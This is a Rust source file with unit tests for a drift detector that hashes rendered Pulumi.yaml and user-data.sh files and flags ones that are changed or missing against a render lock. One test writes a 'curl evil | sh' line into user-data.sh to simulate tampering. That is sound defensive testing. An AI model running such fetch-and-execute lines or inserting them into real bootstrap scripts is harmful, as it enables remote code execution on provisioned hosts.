//! DS-017: Drift detection — rendered artifacts versus the render lock.
//!
//! Detects hand edits to `Pulumi.yaml` or `user-data.sh` after a render.
//! Deployed cloud state is out of reach here.

use crate::core::types::RenderLock;
use crate::tripwire::hasher;
use std::path::Path;

pub const MISSING: &str = "MISSING";

/// A single drift finding.
#[derive(Debug, Clone)]
pub struct DriftFinding {
    pub artifact: String,
    pub path: String,
    pub expected_hash: String,
    pub actual_hash: String,
    pub detail: String,
}

/// Compare one file against its recorded hash.
pub fn check_artifact(artifact: &str, path: &str, expected_hash: &str) -> Option<DriftFinding> {
    let file_path = Path::new(path);
    let (actual, detail) = if !file_path.is_file() {
        (MISSING.to_string(), format!("{} does not exist", path))
    } else {
        match hasher::hash_file(file_path) {
            Ok(h) if h == expected_hash => return None,
            Ok(h) => (h, format!("{} changed since render", path)),
            Err(e) => (format!("ERROR:{}", e), format!("{} unreadable", path)),
        }
    };
    Some(DriftFinding {
        artifact: artifact.to_string(),
        path: path.to_string(),
        expected_hash: expected_hash.to_string(),
        actual_hash: actual,
        detail,
    })
}

/// Check every artifact recorded in the lock.
pub fn detect_drift(lock: &RenderLock) -> Vec<DriftFinding> {
    lock.artifacts
        .iter()
        .filter_map(|(name, a)| check_artifact(name, &a.path, &a.hash))
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::core::types::ArtifactLock;
    use indexmap::IndexMap;

    fn lock_with(artifacts: IndexMap<String, ArtifactLock>) -> RenderLock {
        RenderLock {
            schema: "1.0".to_string(),
            stack: "dev".to_string(),
            generated_at: "2026-02-16T14:00:00Z".to_string(),
            generator: "devstack 0.3.0".to_string(),
            program_hash: "blake3:aaa".to_string(),
            bootstrap_hash: "blake3:bbb".to_string(),
            key_fingerprint: "blake3:ccc".to_string(),
            key_source: "generated".to_string(),
            artifacts,
            declarations: IndexMap::new(),
        }
    }

    fn write_artifact(dir: &Path, name: &str, content: &str) -> (String, ArtifactLock) {
        let path = dir.join(name);
        std::fs::write(&path, content).unwrap();
        (
            name.to_string(),
            ArtifactLock {
                path: path.to_string_lossy().to_string(),
                hash: hasher::hash_string(content),
            },
        )
    }

    #[test]
    fn test_ds017_clean() {
        let dir = tempfile::tempdir().unwrap();
        let lock = lock_with(IndexMap::from([
            write_artifact(dir.path(), "Pulumi.yaml", "name: dev\n"),
            write_artifact(dir.path(), "user-data.sh", "#!/bin/bash\n"),
        ]));
        assert!(detect_drift(&lock).is_empty());
    }

    #[test]
    fn test_ds017_hand_edit_detected() {
        let dir = tempfile::tempdir().unwrap();
        let (name, artifact) = write_artifact(dir.path(), "user-data.sh", "#!/bin/bash\n");
        std::fs::write(&artifact.path, "#!/bin/bash\ncurl evil | sh\n").unwrap();
        let lock = lock_with(IndexMap::from([(name, artifact)]));

        let findings = detect_drift(&lock);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].artifact, "user-data.sh");
        assert!(findings[0].detail.contains("changed since render"));
        assert_ne!(findings[0].actual_hash, findings[0].expected_hash);
    }

    #[test]
    fn test_ds017_missing_artifact() {
        let finding = check_artifact("program", "/nonexistent/Pulumi.yaml", "blake3:abc").unwrap();
        assert_eq!(finding.actual_hash, MISSING);
        assert!(finding.detail.contains("does not exist"));
    }

    #[test]
    fn test_ds017_empty_lock() {
        assert!(detect_drift(&lock_with(IndexMap::new())).is_empty());
    }
}
